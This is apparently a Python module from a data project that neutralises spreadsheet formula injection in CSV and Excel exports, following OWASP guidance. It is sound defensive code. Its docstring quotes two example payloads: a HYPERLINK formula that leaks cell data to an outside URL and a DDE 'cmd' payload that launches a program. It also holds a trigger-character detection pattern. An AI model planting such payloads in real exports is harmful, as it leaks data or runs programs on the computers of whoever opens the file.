"""No formula leaves the workbench: every CSV and workbook the project writes goes through here.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, after a tab or
carriage return, whatever follows) as a formula: ``=HYPERLINK("http://...?leak="&A1,"Click")``
or ``+cmd|' /C calc'!A0`` in an identifier would leak data or start a program when a data
officer opens a report. Following OWASP's "CSV Injection" advice
(https://owasp.org/www-community/attacks/CSV_Injection):

- :func:`neutralise` prefixes such text cells with an apostrophe (``'=HYPERLINK(...)``), which
  Excel and LibreOffice show as text; real numbers, negative ones included, stay numbers, and
  so does text that is a plain number (``-15``, ``+7``, ``£1,234.56``), which no spreadsheet
  runs;
- :func:`safe_csv` writes a frame through :func:`neutralise`;
- :func:`safe_excel` writes frames to a workbook in which every text cell is a string cell
  (openpyxl ``data_type "s"``, with Excel's quote prefix), never a formula;
  :func:`defuse_book` does the same to an openpyxl workbook built elsewhere, and
  :func:`defuse_xlsx` to a workbook file already written by any library.

Apps and notebooks call the same functions for their downloads.
"""

from __future__ import annotations

import io
import re
import sys
from collections.abc import Mapping
from pathlib import Path
from typing import IO

import pandas as pd

# OWASP: cells beginning with these are run by spreadsheets.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULA_START = re.compile(r"^[=+\-@\t\r]")
# Text that is only a number (sign, currency, thousands separators, decimals, exponent or
# per cent) is read as that number by a spreadsheet, never run: it is left as it is.
PLAIN_NUMBER = re.compile(
    r"^[+-]?£?(?:\d+|\d{1,3}(?:,\d{3})+)(?:\.\d+)?(?:[eE][+-]?\d+)?%?$")
APOSTROPHE = "'"


def is_formula_like(value: object) -> bool:
    """True for text a spreadsheet would run (see the module docstring)."""
    return (isinstance(value, str) and bool(FORMULA_START.match(value))
            and not PLAIN_NUMBER.match(value))


def neutralise_text(value: object) -> object:
    """``'=...`` for formula-like text; anything else unchanged."""
    return APOSTROPHE + value if is_formula_like(value) else value


def neutralise(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) cannot run as formulas.

    Numeric, boolean and date columns are untouched; in text and mixed columns only the
    cells that are text starting with a trigger character change.
    """
    out = frame.copy()
    for col in out.columns:
        s = out[col]
        if not (pd.api.types.is_object_dtype(s) or pd.api.types.is_string_dtype(s)
                or isinstance(s.dtype, pd.CategoricalDtype)):
            continue
        values = s.astype(object)
        risky = values.map(is_formula_like).astype(bool)
        if risky.any():
            out[col] = values.where(~risky, APOSTROPHE + values[risky].astype(str))
    out.columns = [neutralise_text(c) if isinstance(c, str) else c for c in out.columns]
    return out


def safe_csv(frame: pd.DataFrame, target: Path | str | IO[str] | None = None, *,
             index: bool = False, **kwargs) -> str | None:
    """Write ``frame`` as CSV (``\\n`` line ends, no index) with formula-like text neutralised.

    ``target`` is a path, an open text stream (``sys.stdout``) or ``None`` (return the text).
    Other keyword arguments go to :meth:`pandas.DataFrame.to_csv` (``float_format`` ...).
    """
    kwargs.setdefault("lineterminator", "\n")
    safe = neutralise(frame)
    # a carriage return inside a value is not quoted by the CSV writer when lines end in
    # \n, and a spreadsheet would break the row there: write it as a (quoted) line break
    for col in safe.columns:
        s = safe[col]
        if pd.api.types.is_object_dtype(s) or pd.api.types.is_string_dtype(s):
            has_cr = s.map(lambda x: isinstance(x, str) and "\r" in x).astype(bool)
            if has_cr.any():
                safe[col] = s.astype(object).where(~has_cr, s[has_cr].astype(str).str.replace(
                    "\r\n?", "\n", regex=True))
    if target is None:
        buffer = io.StringIO()
        safe.to_csv(buffer, index=index, **kwargs)
        return buffer.getvalue()
    if isinstance(target, str | Path):
        Path(target).parent.mkdir(parents=True, exist_ok=True)
    safe.to_csv(target, index=index, **kwargs)
    return None


def print_csv(frame: pd.DataFrame, **kwargs) -> None:
    """:func:`safe_csv` to standard output."""
    safe_csv(frame, sys.stdout, **kwargs)


def defuse_book(book) -> int:
    """Make every formula-like text cell of an openpyxl ``book`` a plain string cell.

    openpyxl stores any text beginning with ``=`` as a formula; this turns it back into a
    string (``data_type "s"``) and sets Excel's quote prefix, so that editing the cell in
    Excel keeps it text. Returns the number of cells changed.
    """
    changed = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and value and value[0] in TRIGGERS \
                        and not PLAIN_NUMBER.match(value):
                    cell.data_type = "s"
                    cell.quotePrefix = True
                    changed += 1
    return changed


def safe_excel(sheets: Mapping[str, pd.DataFrame], path: Path | str, *,
               index: bool = False, **kwargs) -> Path:
    """One sheet per frame (names cut to Excel's 31 characters), text as string cells.

    Numbers stay numbers. ``kwargs`` go to :class:`pandas.ExcelWriter` (``date_format``...).
    """
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    with pd.ExcelWriter(path, engine="openpyxl", **kwargs) as writer:
        for name, frame in sheets.items():
            frame.to_excel(writer, sheet_name=str(name)[:31], index=index)
        defuse_book(writer.book)
    return path


def defuse_xlsx(path: Path | str) -> int:
    """Rewrite a workbook file written by any library so that no text cell is a formula.

    For workbooks whose writer we do not control cell by cell (a formatted report from
    pandas, a gptables workbook): loads it with openpyxl, applies :func:`defuse_book` and
    saves it in place when anything changed. Returns the number of cells changed.
    """
    import openpyxl

    book = openpyxl.load_workbook(path)
    changed = defuse_book(book)
    if changed:
        book.save(path)
    return changed
